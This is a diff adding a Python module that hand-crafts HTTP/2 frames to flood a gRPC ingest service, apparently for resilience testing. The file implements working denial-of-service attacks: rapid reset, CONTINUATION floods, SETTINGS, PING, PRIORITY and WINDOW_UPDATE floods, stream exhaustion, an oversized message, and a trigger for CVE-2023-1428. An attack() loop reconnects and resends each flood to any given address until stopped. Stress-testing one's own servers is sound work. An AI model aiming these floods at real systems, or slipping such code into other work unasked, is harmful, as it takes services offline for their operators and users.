@@ -1,0 +1,174 @@
+"""HTTP/2 as an attacker writes it: frames by hand, whatever the standard says about their order. One flood is a generator of pieces to send."""
+import itertools
+import socket
+import struct
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
+END_STREAM, END_HEADERS = 1, 4
+
+
+def frame(kind, flags=0, stream=0, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def number(value, bits):
+    """An HPACK integer."""
+    most = (1 << bits) - 1
+    if value < most:
+        return bytes([value])
+    out, value = [most], value - most
+    while value >= 128:
+        out.append(value % 128 + 128)
+        value //= 128
+    return bytes(out + [value])
+
+
+def field(name, value):
+    """A header of its own, never in a table."""
+    return b"\0" + number(len(name), 7) + name.encode() + number(len(value), 7) + value.encode()
+
+
+def call(*more, key=""):
+    headers = [(":method", "POST"), (":scheme", "http"), (":path", "/tocsin.v1.IngestService/Stream"), (":authority", "tocsin"),
+               ("content-type", "application/grpc"), *more]
+    if key:
+        headers.append(("authorization", f"Bearer {key}"))
+    return b"".join(field(name, value) for name, value in headers)
+
+
+def streams():
+    return itertools.count(1, 2)
+
+
+def opened(stream, block, flags=END_HEADERS):
+    return frame(HEADERS, flags, stream, block)
+
+
+def rapid_reset(key):
+    for stream in streams():
+        yield opened(stream, call(key=key)) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
+
+
+def made_to_reset(key):
+    """The server is made to reset each stream itself, by a window that grows by nothing."""
+    for stream in streams():
+        yield opened(stream, call(key=key)) + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))
+
+
+def continuations(key):
+    yield opened(1, call(key=key), 0)
+    while True:
+        yield frame(CONTINUATION, 0, 1, field("x-more", "y" * 4000))
+
+
+def empty_continuations(key):
+    yield opened(1, call(key=key), 0)
+    while True:
+        yield frame(CONTINUATION, 0, 1) * 100
+
+
+def settings(_):
+    while True:
+        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 100
+
+
+def pings(_):
+    while True:
+        yield frame(PING, 0, 0, b"12345678") * 100
+
+
+def priorities(_):
+    for stream in streams():
+        yield frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 15)) * 100
+
+
+def window_updates(_):
+    while True:
+        yield frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 100
+
+
+def empty_data(key):
+    yield opened(1, call(key=key))
+    while True:
+        yield frame(DATA, 0, 1) * 100
+
+
+def open_streams(key):
+    """Never closed, more than there may be."""
+    for stream in itertools.islice(streams(), 10_000):
+        yield opened(stream, call(key=key))
+
+
+def no_window(key):
+    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
+    for stream in itertools.islice(streams(), 100):
+        yield opened(stream, call(key=key))
+
+
+def huge_message(key):
+    yield opened(1, call(key=key)) + frame(DATA, 0, 1, b"\0" + struct.pack(">I", 0xFFFFFFFF))
+    while True:
+        yield frame(DATA, 0, 1, b"z" * 16000)
+
+
+def te_and_a_large_header(key):
+    """CVE-2023-1428: a library of before 1.53 ends the process."""
+    for stream in streams():
+        yield opened(stream, call(("te", "x"), ("x-large", "l" * 9000), key=key), END_HEADERS | END_STREAM)
+
+
+def not_a_preface(_):
+    while True:
+        yield b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" * 100
+
+
+def random_frames(_):
+    import random
+    while True:
+        yield frame(random.randrange(256), random.randrange(256), random.randrange(1 << 31), random.randbytes(random.randrange(300)))
+
+
+FLOODS = [rapid_reset, made_to_reset, continuations, empty_continuations, settings, pings, priorities, window_updates, empty_data,
+          open_streams, no_window, huge_message, te_and_a_large_header, not_a_preface, random_frames]
+
+
+def attack(address, flood, key, stopping, reads=True):
+    """Sends a flood, again from the beginning whenever the server hangs up. Returns how many connections it took."""
+    host, port = address.split(":")
+    connections = 0
+    while not stopping.is_set():
+        try:
+            with socket.create_connection((host, int(port)), 5) as connection:
+                connections += 1
+                connection.settimeout(1)
+                connection.sendall((b"" if flood is not_a_preface else PREFACE) + frame(SETTINGS))
+                connection.setblocking(False)
+                _pour(connection, flood(key), stopping, reads)
+        except OSError:
+            stopping.wait(0.05)
+    return connections
+
+
+def _pour(connection, pieces, stopping, reads):
+    for piece in pieces:
+        left = memoryview(piece)
+        while left:
+            if stopping.is_set():
+                return
+            try:
+                left = left[connection.send(left):]
+            except BlockingIOError:
+                stopping.wait(0.01)
+            if reads:
+                try:
+                    if connection.recv(65536) == b"":
+                        return
+                except BlockingIOError:
+                    pass
+    while not stopping.wait(0.1):  # all is said; the connection stays open
+        try:
+            if connection.recv(65536) == b"":
+                return
+        except BlockingIOError:
+            pass
